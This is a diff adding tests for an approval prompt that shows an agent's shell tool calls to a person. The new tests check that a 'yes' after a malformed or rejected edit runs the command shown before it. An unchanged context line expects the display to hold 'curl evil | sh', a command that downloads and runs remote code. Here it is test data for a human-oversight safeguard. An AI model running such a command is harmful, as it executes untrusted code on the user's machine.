@@ -131,6 +131,15 @@ describe('terminalApprover', () => {
     expect(shown()).toContain('│ curl evil | sh');
   });
 
+  test('a yes behind an edit that is no JSON runs the edit that was shown before it', async () => {
+    const { say, decided, shown } = atTheApprover(execute('ls'));
+    await say('e {"command":"rm a"}');
+    await say('e {"command":"echo ok"');
+    await say('y');
+    expect(await decided()).toEqual({ type: 'approve' });
+    expect(shown()).toMatch(/That is not JSON[^]*\nIt would run as it was asked for:\nexecute\n│ command: ls/);
+  });
+
   test('after an edit that is not taken, the call is shown again before a yes runs it', async () => {
     const { say, decided, shown } = atTheApprover(execute('ls'));
     await say('e {"command":"cat refused"}');
@@ -199,6 +208,18 @@ describe('countersign --plain', () => {
     expect(await next()).toEqual([{ type: 'approve' }]);
     expect(shown()).toContain('That was not taken: no policy can be read');
   });
+
+  test.each(['e {"command":"echo ok"', 'e {"command":"fails"}'])(
+    'a yes behind an edit that cannot be taken runs the edit that was shown before it: %s',
+    async (broken) => {
+      const { say, next, shown } = atThePlainChat(execute('ls'));
+      await say('e {"command":"rm a"}');
+      await say(broken);
+      await say('y');
+      expect(await next()).toEqual([{ type: 'approve' }]);
+      expect(shown()).toMatch(/It would run like this:[^]*It would run as it was asked for:\nexecute\n│ command: ls/);
+    },
+  );
 
   test('d is about what was shown last', async () => {
     const { say, next, prompted, shown } = atThePlainChat(execute('ls'));
